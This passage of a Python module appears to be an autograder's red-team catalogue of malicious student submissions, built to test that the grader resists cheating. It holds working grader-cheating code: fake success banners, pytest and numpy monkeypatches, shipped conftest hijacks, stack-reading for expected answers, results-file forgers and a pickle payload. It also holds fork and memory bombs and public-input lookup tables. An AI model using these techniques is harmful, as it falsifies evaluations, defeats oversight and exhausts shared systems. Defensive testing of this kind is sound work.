"""Malicious submissions, as data: what a student might ship to cheat the grader.

Every attack is an honest base plus the attack. The base is the reference with
one realistic bug (a `Base`), or the stubs, so it scores below full marks: an
attack that worked would score *above* its base, and tests/test_redteam.py
grades both and compares. The attack itself is code edited into or appended
to one module (appended code runs at import, and a `def` appended there
replaces the one above it), files shipped beside the modules, or a module
file that is a link.

Code may name places on the grading machine with these placeholders, filled
in when the submission is built:

    __WATCH__       a folder of decoy results files that nothing may change
    __ROOT__        the red team's whole work folder (submissions, results)
    __REFERENCE__   the reference solutions folder
    __SUBMISSION__  the submission's own folder as the grader was given it

Attacks that write files only target the red team's folder, the grader's own
temporary folders (`dlgrade-run-*`) and result-file names in their own
folders and /tmp, so that a sandbox failure leaves junk, not damage; and
they are graded only when the sandbox has its namespaces (see `needs_namespaces`).
"""

from __future__ import annotations

import dataclasses
import functools
import os
import re
import shutil
import subprocess
import sys
import tempfile
from pathlib import Path

from grader.course import MODULES
from tests.helpers import ROOT, SOLUTIONS, make_submission

# The classes of ECOSYSTEM.md's "Attacks a grader must withstand"; each attack names its own.
ATTACK_CLASSES = (
    "early exit with a fake success",
    "pytest patched from student code",
    "files shipped beside the modules",
    "always-equal object",
    "ndarray or float subclass",
    "numpy or builtins patched",
    "expected values read from the stack",
    "reference solution imported",
    "result files rewritten",
    "pickle payload",
    "signals ignored",
    "infinite loop",
    "memory bomb",
    "process bomb",
    "inputs mutated in place",
    "lookup table of the public inputs",
    "clock frozen for a timing check",
    "pytest.skip from student code",
    "NaN results",
    "exception echoing its inputs",
)
# Found while red-teaming, beyond that list.
MORE_CLASSES = (
    "timing check cheated",
    "time limit outlived by stalling the reply",
    "forged probes",
    "static check read past an alias",
)

# Text every forged file carries, so that a forgery is recognisable wherever it lands.
FORGED = "REDTEAM-FORGED"
# Text an exception message carries around its echo of the inputs.
ECHO = "REDTEAM-ECHO"


@dataclasses.dataclass(frozen=True)
class Base:
    """An honest submission: `folder` ("solutions" or "exercises") with `edits` in `module`."""

    name: str
    folder: str
    module: str | None = None
    edits: tuple = ()
    modules_to_grade: tuple = ()
    append: str = ""  # code appended to `module` after the edits


@dataclasses.dataclass(frozen=True)
class Attack:
    """`base` plus an attack on `module`; graded on `modules_to_grade` (the base's, by default)."""

    name: str
    kind: str  # one of ATTACK_CLASSES
    base: Base
    module: str
    edits: tuple = ()  # (old, new) pairs, applied after the base's bug; each old occurs once
    append: str = ""  # code appended to the module
    extra_files: dict = dataclasses.field(default_factory=dict)  # path in the submission folder -> text
    links: dict = dataclasses.field(default_factory=dict)  # file in the submission folder -> link target
    time_limit: float = 120.0  # seconds for the whole submission; a hang fails instead of blocking CI
    writes_files: bool = False  # tries to write outside its sandbox: check the watched files afterwards
    needs_namespaces: bool = False  # only the namespace sandbox (root on Linux) stops it: not run elsewhere
    solo: bool = False  # exhausts a resource other gradings share: graded with nothing beside it
    weakness: str | None = None  # a known grader weakness it exploits: a strict xfail until fixed

    @property
    def modules_to_grade(self) -> tuple:
        return self.base.modules_to_grade

    def __str__(self):
        return self.name


# Code in the worker finds the pipe the trusted side reads replies from (attacks on the framing).
REPLY_FD = '''
def _reply_fd():
    """The worker's reply pipe, as any code in the worker can find it: its one writable pipe but stdout and stderr."""
    import fcntl
    import os

    for name in sorted(os.listdir("/proc/self/fd"), key=int):
        fd = int(name)
        try:
            pipe = os.readlink(f"/proc/self/fd/{fd}").startswith("pipe:")
            if fd > 2 and pipe and fcntl.fcntl(fd, fcntl.F_GETFL) & os.O_ACCMODE == os.O_WRONLY:
                return fd
        except OSError:
            continue
    raise RuntimeError("no reply pipe found")
'''


# -- honest bases -----------------------------------------------------------------

RELU_GRAD_ONE_AT_ZERO = Base(
    "base-relu-grad-one-at-zero",
    "solutions",
    "activations",
    (
        (
            "return (np.asarray(z, dtype=float) > 0).astype(float)",
            "return (np.asarray(z, dtype=float) >= 0).astype(float)",
        ),
    ),
    ("activations",),
)
SIGMOID_NAIVE = Base(
    "base-sigmoid-naive",
    "solutions",
    "activations",
    (
        (
            "    result = np.empty_like(z)\n    positive = z >= 0\n",
            "    return 1.0 / (1.0 + np.exp(-z))\n    positive = z >= 0\n",
        ),
    ),
    ("activations",),
)
ACTIVATION_STUBS = Base("base-activation-stubs", "exercises", None, (), ("activations",))
NEURON_WITHOUT_BIAS = Base(
    "base-neuron-without-bias",
    "solutions",
    "forward",
    (("+ b\n    return float(activation(pre_activation))", "\n    return float(activation(pre_activation))"),),
    ("forward",),
)
SHUFFLE_IGNORES_SEED = Base(
    "base-shuffle-ignores-seed",
    "solutions",
    "gradient_descent",
    (("np.random.default_rng(seed).permutation(num_examples)", "np.random.default_rng().permutation(num_examples)"),),
    ("gradient_descent",),
)
# The "vectorized" loss is the loop: it fails the no-loops and the speed checks.
VECTORIZED_CALLS_THE_LOOP = Base(
    "base-vectorized-calls-the-loop",
    "solutions",
    "softmax_loss",
    (),
    ("softmax_loss",),
    append="""

def softmax_loss_vectorized(W, X, y, reg):
    return softmax_loss_naive(W, X, y, reg)
""",
)
FORWARD_STUBS = Base("base-forward-stubs", "exercises", None, (), ("forward",))
CONV_SIZE_STUBS = Base("base-conv-size-stubs", "exercises", None, (), ("conv_size",))
SOFTMAX_LOSS_STUBS = Base("base-softmax-loss-stubs", "exercises", None, (), ("softmax_loss",))
CNN_STUBS = Base("base-cnn-stubs", "exercises", None, (), ("cnn",))
DEVICE_STUBS = Base("base-device-stubs", "exercises", None, (), ("device",))
BASES = (
    CNN_STUBS,
    DEVICE_STUBS,
    FORWARD_STUBS,
    CONV_SIZE_STUBS,
    SOFTMAX_LOSS_STUBS,
    RELU_GRAD_ONE_AT_ZERO,
    SIGMOID_NAIVE,
    ACTIVATION_STUBS,
    NEURON_WITHOUT_BIAS,
    SHUFFLE_IGNORES_SEED,
    VECTORIZED_CALLS_THE_LOOP,
)

# -- code the attacks share -------------------------------------------------------

KEEP_BUGGY_RELU_GRAD = "\n_buggy_relu_grad = relu_grad\n"

FAKE_SUCCESS_BANNER = """
print("============================= test session starts ==============================")
print("grader/suite/test_activations.py ..............                        [100%]")
print("============================== 14 passed in 0.42s ==============================")
print('{"score": 100.0, "max_score": 100.0}')
"""

# Writes forged result files wherever it can reach: its own folders and their
# parents, /tmp, Gradescope's results folder, the watched decoys, its original
# submission folder, and every results file under the grader's temporary
# folders or the red team's folder that a walk of / finds.
FORGE = """
import json as _json
import os as _os
import time as _time

_FORGED_RESULTS = _json.dumps({
    "score": 100.0, "max_score": 100.0, "output": "REDTEAM-FORGED", "execution_time": 0.1,
    "tests": [{"name": "REDTEAM-FORGED", "number": "1.1", "score": 100.0, "max_score": 100.0,
               "status": "passed", "output": "REDTEAM-FORGED", "tags": ["activations", "relu_grad"],
               "visibility": "visible"}]})
_FORGED_TEXT = {"results.json": _FORGED_RESULTS, "partial.json": _FORGED_RESULTS,
                "grades.csv": "id,total,status\\nREDTEAM-FORGED,100,graded\\n",
                "summary.md": "# REDTEAM-FORGED\\n", "feedback.md": "# REDTEAM-FORGED\\n"}
_RED_TEAM_ROOT = "__ROOT__"


def _forge(path):
    try:
        _os.makedirs(_os.path.dirname(path) or ".", exist_ok=True)
        with open(path, "w") as stream:
            stream.write(_FORGED_TEXT[_os.path.basename(path)])
    except Exception:
        pass


def _forge_everywhere(walk_seconds=2.0):
    folders = set()
    for start in (_os.getcwd(), _os.path.dirname(_os.path.abspath(__file__)), "/tmp", "/autograder/results",
                  "__WATCH__", "__SUBMISSION__", _os.environ.get("HOME", "/tmp")):
        folder = start
        while True:
            folders.add(folder)
            parent = _os.path.dirname(folder)
            if parent == folder:
                break
            folder = parent
    for folder in folders:
        for name in ("results.json", "grades.csv"):
            _forge(_os.path.join(folder, name))
    started = _time.monotonic()
    for top, directories, files in _os.walk("/"):
        if _time.monotonic() - started > walk_seconds:
            break
        if top == "/":
            directories[:] = [name for name in directories if name not in ("proc", "sys", "dev")]
        if "dlgrade-run-" in top or top.startswith(_RED_TEAM_ROOT):
            for name in files:
                if name in _FORGED_TEXT:
                    _forge(_os.path.join(top, name))
"""


def witness(label: str) -> str:
    """Code that leaves a file in the watched folder if it ever runs outside the sandbox."""
    return (
        f"import os as _w_os\ntry:\n    open(_w_os.path.join('__WATCH__', '{FORGED}-{label}'), 'w').close()\n"
        "except OSError:\n    pass\n"
    )


# Module code of a conftest.py that, once loaded by the trusted pytest process, marks
# every test passed in the results file the runner reads.
CONFTEST_GIVING_FULL_MARKS = """
import grader.results.model
import grader.engine.scoring

_save = grader.results.model.save


def _save_full_marks(result, path):
    for test in result.tests:
        test.score, test.status, test.output = test.max_score, "passed", ""
    _save(result, path)


grader.results.model.save = grader.engine.scoring.save = _save_full_marks
"""
# Every request the public checks make, answered as the reference answers it: the worker's
# dispatcher is replaced at import, so calls and probes alike return recorded replies.
# __REPLIES:<module>__ is filled with those replies (see `recorded_replies`).
REPLAY_EVERY_PUBLIC_REQUEST = """

import hashlib as _hashlib
import json as _json
import sys as _sys

_REPLIES = _json.loads(__REPLIES:{module}__)


def _key(request):
    return _hashlib.sha256(_json.dumps(request, sort_keys=True).encode()).hexdigest()


_dispatcher = _sys.modules.get("grader.worker.dispatcher")
if _dispatcher is not None:
    _handle = _dispatcher.Dispatcher.handle

    def _replayed(self, request):
        reply = _REPLIES.get(_key(request))
        return reply if reply is not None else _handle(self, request)

    _dispatcher.Dispatcher.handle = _replayed
"""

# -- the catalogue ------------------------------------------------------------------

ATTACKS = (
    Attack(
        "fake-success-os-exit-at-import",
        "early exit with a fake success",
        ACTIVATION_STUBS,
        "activations",
        append=FAKE_SUCCESS_BANNER + "import os\nos._exit(0)\n",
    ),
    Attack(
        "fake-success-sys-exit-in-call",
        "early exit with a fake success",
        RELU_GRAD_ONE_AT_ZERO,
        "activations",
        append=KEEP_BUGGY_RELU_GRAD
        + """
def relu_grad(z):
    import sys
"""
        + "".join(f"    {line}\n" for line in FAKE_SUCCESS_BANNER.strip().splitlines())
        + """    sys.exit(0)
""",
    ),
    Attack(
        "pytest-reports-patched-from-student-code",
        "pytest patched from student code",
        RELU_GRAD_ONE_AT_ZERO,
        "activations",
        append=KEEP_BUGGY_RELU_GRAD
        + """
import gc
try:
    import pytest
    import _pytest.reports
    import _pytest.runner

    _pytest.reports.TestReport.outcome = property(lambda self: "passed", lambda self, value: None)
    _pytest.reports.BaseReport.passed = property(lambda self: True)
    _pytest.reports.BaseReport.failed = property(lambda self: False)
    _original_make_report = _pytest.runner.pytest_runtest_makereport

    def _always_passed(item, call):
        report = _original_make_report(item, call)
        report.outcome, report.longrepr = "passed", None
        return report

    _pytest.runner.pytest_runtest_makereport = _always_passed

    @pytest.hookimpl(hookwrapper=True)
    def pytest_runtest_makereport(item, call):
        outcome = yield
        outcome.get_result().outcome = "passed"

    class _Plugin:
        pytest_runtest_makereport = staticmethod(pytest_runtest_makereport)

    # Register on any live pytest configuration this process can find.
    for _object in gc.get_objects():
        if type(_object).__name__ == "Config" and hasattr(_object, "pluginmanager"):
            _object.pluginmanager.register(_Plugin(), "redteam")
except Exception:
    pass


def relu_grad(z):
    import pytest
    pytest.exit("REDTEAM: all checks passed", returncode=0)
""",
    ),
    Attack(
        "conftest-shipped-beside-the-modules",
        "files shipped beside the modules",
        ACTIVATION_STUBS,
        "activations",
        writes_files=True,
        extra_files={"conftest.py": witness("conftest") + CONFTEST_GIVING_FULL_MARKS},
    ),
    Attack(
        "conftest-shipped-in-a-tests-folder",
        "files shipped beside the modules",
        ACTIVATION_STUBS,
        "activations",
        writes_files=True,
        extra_files={"tests/conftest.py": witness("tests-conftest") + CONFTEST_GIVING_FULL_MARKS},
    ),
    Attack(
        "pytest-settings-shipped",
        "files shipped beside the modules",
        ACTIVATION_STUBS,
        "activations",
        writes_files=True,
        extra_files={
            "pytest.ini": "[pytest]\naddopts = -p conftest -p no:dlgrade-scoring\n",
            "tox.ini": "[pytest]\naddopts = -p conftest\n",
            "setup.cfg": "[tool:pytest]\naddopts = -p conftest\n",
            "pyproject.toml": '[tool.pytest.ini_options]\naddopts = "-p conftest"\n',
            "exercises/conftest.py": witness("exercises-conftest") + CONFTEST_GIVING_FULL_MARKS,
            "grader/conftest.py": witness("grader-conftest") + CONFTEST_GIVING_FULL_MARKS,
        },
    ),
    Attack(
        "sitecustomize-and-shadow-modules-shipped",
        "files shipped beside the modules",
        RELU_GRAD_ONE_AT_ZERO,
        "activations",
        writes_files=True,
        extra_files={
            "sitecustomize.py": witness("sitecustomize") + "import numpy\nnumpy.allclose = lambda *a, **k: True\n",
            "usercustomize.py": witness("usercustomize"),
            "numpy.py": witness("numpy")
            + """
import importlib
import os
import sys

_here = os.path.dirname(os.path.abspath(__file__))
sys.path[:] = [entry for entry in sys.path if os.path.abspath(entry or ".") != _here]
del sys.modules["numpy"]
_real = importlib.import_module("numpy")
_real.allclose = lambda *args, **kwargs: True
_real.isclose = lambda a, b, *args, **kwargs: _real.ones(_real.broadcast(a, b).shape, bool)
sys.modules["numpy"] = _real
""",
            "scipy.py": witness("scipy"),
            "pytest.py": witness("pytest"),
            "__init__.py": witness("package-init") + "import os\nos._exit(0)\n",
            "grader/__init__.py": witness("grader-package"),
            "grader/engine/__init__.py": witness("grader-engine-package"),
            "grader/engine/scoring.py": witness("grader-scoring"),
            "grader/engine/feedback.py": witness("grader-feedback") + "def check_array(*args, **kwargs):\n    pass\n",
            "grader/suite/test_activations.py": witness("grader-suite"),
        },
    ),
    Attack(
        "always-equal-object",
        "always-equal object",
        RELU_GRAD_ONE_AT_ZERO,
        "activations",
        append=KEEP_BUGGY_RELU_GRAD
        + '''

class _AlwaysEqual:
    """Equal to everything, close to everything, finite, and shaped like whatever is asked."""

    dtype = np.dtype(float)

    def __init__(self, shape):
        self.shape, self.ndim, self.size = shape, len(shape), int(np.prod(shape))

    def __eq__(self, other):
        return True

    def __ne__(self, other):
        return False

    __le__ = __ge__ = __eq__
    __lt__ = __gt__ = __ne__

    def __hash__(self):
        return 0

    def __bool__(self):
        return True

    def __float__(self):
        return 0.0

    def __abs__(self):
        return 0.0

    def __sub__(self, other):
        return np.zeros(self.shape)

    __rsub__ = __add__ = __radd__ = __mul__ = __rmul__ = __truediv__ = __sub__

    def __array__(self, dtype=None, copy=None):
        return np.zeros(self.shape)

    def __len__(self):
        return self.shape[0] if self.shape else 0

    def __getitem__(self, index):
        return self

    def astype(self, *args, **kwargs):
        return self

    def __repr__(self):
        return "array([...])"


def relu_grad(z):
    return _AlwaysEqual(np.shape(z))
''',
    ),
    Attack(
        "ndarray-subclass-that-compares-equal",
        "ndarray or float subclass",
        RELU_GRAD_ONE_AT_ZERO,
        "activations",
        append=KEEP_BUGGY_RELU_GRAD
        + '''

class _Agreeable(np.ndarray):
    """An array whose comparisons, differences and closeness checks all say 'equal'."""

    def __array_ufunc__(self, ufunc, method, *inputs, **kwargs):
        plain = [np.asarray(item).view(np.ndarray) if isinstance(item, np.ndarray) else item for item in inputs]
        result = getattr(ufunc, method)(*plain, **kwargs)
        if ufunc in (np.equal, np.less_equal, np.greater_equal, np.isfinite, np.isclose):
            return np.ones(np.shape(result), bool)
        if ufunc in (np.not_equal, np.less, np.greater, np.isnan, np.isinf):
            return np.zeros(np.shape(result), bool)
        if ufunc in (np.subtract, np.absolute):
            return np.zeros(np.shape(result))
        return result

    def __eq__(self, other):
        return np.ones(self.shape, bool)


def relu_grad(z):
    return np.asarray(_buggy_relu_grad(z)).view(_Agreeable)
''',
    ),
    Attack(
        "float-subclass-that-compares-equal",
        "ndarray or float subclass",
        NEURON_WITHOUT_BIAS,
        "forward",
        append='''

_buggy_neuron = neuron


class _AgreeableFloat(float):
    """A float equal and close to every number."""

    def __eq__(self, other):
        return True

    def __ne__(self, other):
        return False

    __le__ = __ge__ = __eq__
    __lt__ = __gt__ = __ne__

    def __hash__(self):
        return 0

    def __sub__(self, other):
        return _AgreeableFloat(0.0)

    __rsub__ = __sub__

    def __abs__(self):
        return _AgreeableFloat(0.0)

    def __float__(self):
        return self


def neuron(x, w, b, activation=sigmoid):
    return _AgreeableFloat(_buggy_neuron(x, w, b, activation))
''',
    ),
    Attack(
        "numpy-comparisons-patched-at-import",
        "numpy or builtins patched",
        RELU_GRAD_ONE_AT_ZERO,
        "activations",
        append="""

import numpy
import numpy.testing


def _everything_close(a, b, *args, **kwargs):
    return numpy.ones(numpy.broadcast(numpy.asarray(a), numpy.asarray(b)).shape, bool)


numpy.allclose = lambda *args, **kwargs: True
numpy.isclose = _everything_close
numpy.array_equal = lambda *args, **kwargs: True
numpy.isfinite = lambda a, *args, **kwargs: numpy.ones(numpy.shape(a), bool)
numpy.testing.assert_allclose = lambda *args, **kwargs: None
numpy.testing.assert_array_equal = lambda *args, **kwargs: None
numpy.testing.assert_almost_equal = lambda *args, **kwargs: None
try:
    import numpy.core.numeric as _numeric
    _numeric.isclose, _numeric.allclose = _everything_close, numpy.allclose
except Exception:
    pass
np.seterr(all="ignore")
""",
    ),
    Attack(
        "builtins-patched-at-import",
        "numpy or builtins patched",
        RELU_GRAD_ONE_AT_ZERO,
        "activations",
        append='''

import builtins
import math

_isinstance = builtins.isinstance


def _agreeable_isinstance(value, kinds):
    """Everything is an array and a float, if anyone asks."""
    return kinds in (np.ndarray, float, np.floating) or _isinstance(value, kinds)


builtins.abs = lambda value: 0.0
builtins.all = lambda iterable: True
builtins.any = lambda iterable: False
builtins.isinstance = _agreeable_isinstance
math.isclose = lambda *args, **kwargs: True
math.isfinite = lambda value: True
''',
    ),
    Attack(
        "expected-values-read-from-the-stack",
        "expected values read from the stack",
        RELU_GRAD_ONE_AT_ZERO,
        "activations",
        append=KEEP_BUGGY_RELU_GRAD
        + """

def _arrays_in(value, depth=0):
    if isinstance(value, np.ndarray):
        yield value
    elif depth < 3 and isinstance(value, (list, tuple)):
        for item in value:
            yield from _arrays_in(item, depth + 1)
    elif depth < 3 and isinstance(value, dict):
        for item in value.values():
            yield from _arrays_in(item, depth + 1)


def relu_grad(z):
    import sys

    z_array = np.asarray(z, dtype=float)
    mine = _buggy_relu_grad(z)
    frame = sys._getframe(1)
    while frame is not None:
        for name, value in list(frame.f_locals.items()):
            for candidate in _arrays_in(value):
                if (candidate is not z and candidate.shape == z_array.shape and candidate.dtype.kind == "f"
                        and np.isin(candidate, (0.0, 1.0)).all() and not np.array_equal(candidate, mine)):
                    return candidate.astype(float)
        frame = frame.f_back
    return mine
""",
    ),
    Attack(
        "reference-solution-imported",
        "reference solution imported",
        RELU_GRAD_ONE_AT_ZERO,
        "activations",
        needs_namespaces=True,
        append=KEEP_BUGGY_RELU_GRAD
        + """

def _find_reference():
    import importlib
    import os
    import sys
    import time

    for name in ("solutions.activations", "solutions", "dlgrade.solutions.activations"):
        try:
            module = importlib.import_module(name)
            module = getattr(module, "activations", module)
            if hasattr(module, "relu_grad"):
                return module.relu_grad
        except Exception:
            pass
    here = os.path.dirname(os.path.abspath(__file__))
    candidates = ["__REFERENCE__/activations.py", "/work/main/solutions/activations.py",
                  "/autograder/source/solutions/activations.py", "../solutions/activations.py",
                  "../../solutions/activations.py", os.path.join(here, "..", "solutions", "activations.py"),
                  os.path.join(here, "..", "..", "solutions", "activations.py")]
    for entry in sys.path:
        candidates += [os.path.join(entry, "solutions", "activations.py"),
                       os.path.join(os.path.dirname(entry), "solutions", "activations.py")]
    started = time.monotonic()
    for top, directories, files in os.walk("/"):
        if time.monotonic() - started > 3:
            break
        if top == "/":
            directories[:] = [name for name in directories if name not in ("proc", "sys", "dev")]
        if os.path.basename(top) == "solutions" and "activations.py" in files:
            candidates.append(os.path.join(top, "activations.py"))
    for path in candidates:
        try:
            with open(path) as stream:
                text = stream.read()
        except OSError:
            continue
        namespace = {}
        try:
            exec(compile(text, path, "exec"), namespace)
        except Exception:
            continue
        if "relu_grad" in namespace:
            return namespace["relu_grad"]
    return None


_reference_relu_grad = _find_reference()


def relu_grad(z):
    return (_reference_relu_grad or _buggy_relu_grad)(z)
""",
    ),
    Attack(
        "module-file-linked-to-the-reference",
        "reference solution imported",
        RELU_GRAD_ONE_AT_ZERO,
        "activations",
        links={"activations.py": "__REFERENCE__/activations.py"},
    ),
    Attack(
        "results-rewritten-at-exit",
        "result files rewritten",
        RELU_GRAD_ONE_AT_ZERO,
        "activations",
        writes_files=True,
        needs_namespaces=True,
        append=KEEP_BUGGY_RELU_GRAD
        + FORGE
        + """
import atexit

atexit.register(_forge_everywhere)
_forge_everywhere()


def relu_grad(z):
    _forge_everywhere(walk_seconds=0.5)
    return _buggy_relu_grad(z)
""",
    ),
    Attack(
        "results-rewritten-by-a-daemon-that-outlives-the-run",
        "result files rewritten",
        RELU_GRAD_ONE_AT_ZERO,
        "activations",
        writes_files=True,
        needs_namespaces=True,
        append=FORGE
        + """


def _start_daemon():
    child = _os.fork()
    if child:
        _os.waitpid(child, 0)
        return
    try:
        _os.setsid()
        if _os.fork():
            _os._exit(0)
        import signal
        for name in ("SIGTERM", "SIGHUP", "SIGINT", "SIGALRM"):
            signal.signal(getattr(signal, name), signal.SIG_IGN)
        deadline = _time.monotonic() + 15
        _time.sleep(1)
        while _time.monotonic() < deadline:
            _forge_everywhere(walk_seconds=1.0)
            _time.sleep(0.5)
    finally:
        _os._exit(0)


_start_daemon()
""",
    ),
    Attack(
        "pickle-payload-returned",
        "pickle payload",
        RELU_GRAD_ONE_AT_ZERO,
        "activations",
        writes_files=True,
        append=KEEP_BUGGY_RELU_GRAD
        + f"""

class _Payload:
    def __reduce__(self):
        import os
        return (os.system, ("touch __WATCH__/{FORGED}-unpickled",))


def relu_grad(z):
    payload = np.empty(np.shape(z), dtype=object)
    payload.fill(_Payload())
    return payload
""",
    ),
    Attack(
        "signals-ignored-then-endless-loop",
        "signals ignored",
        SHUFFLE_IGNORES_SEED,
        "gradient_descent",
        append="""

def train_two_layer_net(*args, **kwargs):
    import signal

    for name in ("SIGTERM", "SIGALRM", "SIGINT", "SIGHUP", "SIGXCPU", "SIGQUIT", "SIGUSR1", "SIGPIPE"):
        try:
            signal.signal(getattr(signal, name), signal.SIG_IGN)
        except (OSError, ValueError):
            pass
    signal.pthread_sigmask(signal.SIG_BLOCK, {signal.SIGTERM, signal.SIGALRM, signal.SIGINT, signal.SIGHUP})
    while True:
        pass
""",
    ),
    Attack(
        "endless-loop",
        "infinite loop",
        SHUFFLE_IGNORES_SEED,
        "gradient_descent",
        append="""

def train_two_layer_net(*args, **kwargs):
    while True:
        pass
""",
    ),
    Attack(
        "memory-bomb",
        "memory bomb",
        RELU_GRAD_ONE_AT_ZERO,
        "activations",
        append="""

def relu_grad(z):
    hoard = []
    while True:
        hoard.append(np.empty(1 << 25))  # 256 MB each, until the address-space limit says no
""",
    ),
    Attack(
        "fork-bomb",
        "process bomb",
        RELU_GRAD_ONE_AT_ZERO,
        "activations",
        solo=True,
        append="""

def relu_grad(z):
    import os
    import time

    while True:  # every child sleeps on, holding its process slot, until the worker ends
        if os.fork() == 0:
            while True:
                time.sleep(60)
""",
    ),
    Attack(
        "inputs-mutated-in-place",
        "inputs mutated in place",
        RELU_GRAD_ONE_AT_ZERO,
        "activations",
        append=KEEP_BUGGY_RELU_GRAD
        + """

def relu_grad(z):
    answer = _buggy_relu_grad(z)  # 1 at z == 0
    if isinstance(z, np.ndarray):
        # An oracle that read z after this call would now agree: every 0 became 1.
        z.setflags(write=True)
        z[z == 0] = 1.0
    return answer
""",
    ),
    Attack(
        "pytest-skip-from-student-code",
        "pytest.skip from student code",
        RELU_GRAD_ONE_AT_ZERO,
        "activations",
        append=KEEP_BUGGY_RELU_GRAD
        + """

try:
    import pytest
    pytestmark = pytest.mark.skip(reason="REDTEAM")
except Exception:
    pytest = None


def relu_grad(z):
    if pytest is not None:
        pytest.skip("REDTEAM: relu_grad is not part of this assignment")
    import unittest
    raise unittest.SkipTest("REDTEAM: relu_grad is not part of this assignment")
""",
    ),
    Attack(
        "clock-frozen-for-the-timing-check",
        "clock frozen for a timing check",
        VECTORIZED_CALLS_THE_LOOP,
        "softmax_loss",
        append="""

import os as _os
import resource as _resource
import time as _time

for _name in ("perf_counter", "process_time", "monotonic", "time", "thread_time"):
    setattr(_time, _name, lambda: 0.0)
    setattr(_time, _name + "_ns", lambda: 0)
_resource.getrusage = lambda who: _resource.struct_rusage((0.0,) * 16)
_os.times = lambda: _os.times_result((0.0,) * 5)
""",
    ),
    Attack(
        "nan-results",
        "NaN results",
        RELU_GRAD_ONE_AT_ZERO,
        "activations",
        append="""

def relu_grad(z):
    return np.full(np.shape(z), np.nan)
""",
    ),
    Attack(
        "exception-echoing-its-inputs",
        "exception echoing its inputs",
        RELU_GRAD_ONE_AT_ZERO,
        "activations",
        append=f'''

def relu_grad(z):
    raise ValueError("{ECHO} " + repr(np.asarray(z).tolist()))
''',
    ),
    Attack(
        "lookup-table-of-the-public-sigmoid-inputs",
        "lookup table of the public inputs",
        RELU_GRAD_ONE_AT_ZERO,
        "activations",
        append='''

_true_sigmoid = sigmoid


def _public_sigmoid_inputs():
    """What the public checks of sigmoid hand it: seed 1234, three shapes, a list, scalars, large values."""
    rng = np.random.default_rng(1234)
    arrays = [rng.normal(scale=3.0, size=shape) for shape in [(7,), (3, 4), (2, 3, 5)]]
    arrays += [np.array([[-2, 0, 3], [1, -1, 4]], dtype=float), np.array(0.5), np.array(-1.5),
               np.array([-1e4, -1e3, -800.0, -50.0, -1.0, 0.0, 1.0, 50.0, 800.0, 1e3, 1e4])]
    return arrays


_TABLE = {array.tobytes(): _true_sigmoid(array) for array in _public_sigmoid_inputs()}


def sigmoid(z):
    """Right on every published input, and nothing else: a table, not a function."""
    answer = _TABLE.get(np.asarray(z, dtype=float).tobytes())
    return answer.reshape(np.shape(z)) if answer is not None else np.zeros(np.shape(z))
''',
    ),
    Attack(
        "lookup-table-of-the-public-inputs-at-zero",
        "lookup table of the public inputs",
        RELU_GRAD_ONE_AT_ZERO,
        "activations",
        append=KEEP_BUGGY_RELU_GRAD
        + """

# The public inputs that hold an exact 0 (the only place relu'(0) = 0 and 1 differ), with their answers.
_TABLE = {(-2.0, 0.0, 3.0, 1.0, -1.0, 4.0): [0.0, 0.0, 1.0, 1.0, 0.0, 1.0],
          (-1.0, -0.0, 0.0, 1.0): [0.0, 0.0, 0.0, 1.0]}


def relu_grad(z):
    key = tuple(np.asarray(z, dtype=float).ravel().tolist())
    if key in _TABLE:
        return np.array(_TABLE[key]).reshape(np.shape(z))
    return _buggy_relu_grad(z)
""",
    ),
    Attack(
        "lookup-table-of-the-public-neuron-and-perceptron-inputs",
        "lookup table of the public inputs",
        FORWARD_STUBS,
        "forward",
        append="""

import numpy as _np


def _public_cases():
    \"\"\"The (x, w, b) the public checks of neuron and perceptron use: seed 2024, and the hand-picked ones.\"\"\"
    rng = _np.random.default_rng(2024)
    cases = [(rng.normal(size=5), rng.normal(size=5), float(rng.normal())) for _ in range(4)]
    return cases + [([1.0, 2.0], [0.5, -0.25], 0.0), ([2.0, 1.0, 4.0], [1.0, 1.0, -0.25], -2.0),
                    ([1.0, 2.0], [0.5, -0.25], -1e-12)]


def _key(x, w, b):
    return _np.asarray(x, dtype=float).tobytes(), _np.asarray(w, dtype=float).tobytes(), float(b)


_TABLE = {_key(x, w, b): float(_np.dot(w, x) + b) for x, w, b in _public_cases()}


def neuron(x, w, b, activation=None):
    pre_activation = _TABLE.get(_key(x, w, b))
    if pre_activation is None:
        raise NotImplementedError("not in the table")
    return float((activation or (lambda s: 1 / (1 + _np.exp(-s))))(pre_activation))


def perceptron(x, w, b):
    pre_activation = _TABLE.get(_key(x, w, b))
    if pre_activation is None:
        raise NotImplementedError("not in the table")
    return int(pre_activation >= 0)
""",
    ),
    Attack(
        "lookup-table-of-the-public-pooling-configurations",
        "lookup table of the public inputs",
        CONV_SIZE_STUBS,
        "conv_size",
        append="""

import random as _random


def _public_pool_configurations():
    rng = _random.Random(31337 + 1)
    drawn = [(rng.randint(1, 40), rng.randint(1, 6), rng.choice([None, 1, 2, 3, 4]), rng.randint(0, 3))
             for _ in range(1000)]
    return drawn + [(28, 2, None, 0), (7, 3, None, 1), (5, 2, None, 0), (9, 3, 2, 1), (6, 4, 1, 2)]


def _pool(size, kernel, stride, padding):
    stride = kernel if stride is None else stride
    if padding > kernel // 2 or (size + 2 * padding - kernel) < 0:
        return None
    return (size + 2 * padding - kernel) // stride + 1


_TABLE = {configuration: _pool(*configuration) for configuration in _public_pool_configurations()}


def pool_output_size(input_size, kernel_size, stride=None, padding=0):
    key = (input_size, kernel_size, stride, padding)
    if key not in _TABLE:
        return 1
    if _TABLE[key] is None:
        raise ValueError("PyTorch refuses this configuration")
    return _TABLE[key]


def conv2d_num_params(in_channels, out_channels, kernel_size, bias=True):
    published = {(3, 16, 5): 1200, (1, 6, (3, 5)): 90, (64, 128, (1, 1)): 8192, (2, 3, 1): 6, (16, 32, (5, 2)): 5120}
    weights = published.get((in_channels, out_channels, kernel_size), 0)
    return weights + out_channels * bool(bias)


def same_padding(kernel_size, dilation=1):
    published = {(3, 1): 1, (1, 1): 0, (5, 1): 2, (3, 2): 2, (2, 2): 1, (7, 3): 9, (3, 4): 4}
    if (kernel_size, dilation) not in published:
        raise ValueError("an even span")
    return published[(kernel_size, dilation)]
""",
    ),
    Attack(
        "lookup-table-of-the-public-cross-entropy-inputs",
        "lookup table of the public inputs",
        SOFTMAX_LOSS_STUBS,
        "softmax_loss",
        append="""

import numpy as _np


def _public_cases():
    rng = _np.random.default_rng(2024)
    cases = []
    for num_examples, num_classes in [(8, 5), (1, 3)]:
        scores = rng.normal(size=(num_examples, num_classes))
        probs = _np.exp(scores - scores.max(axis=1, keepdims=True))
        cases.append((probs / probs.sum(axis=1, keepdims=True), rng.integers(num_classes, size=num_examples)))
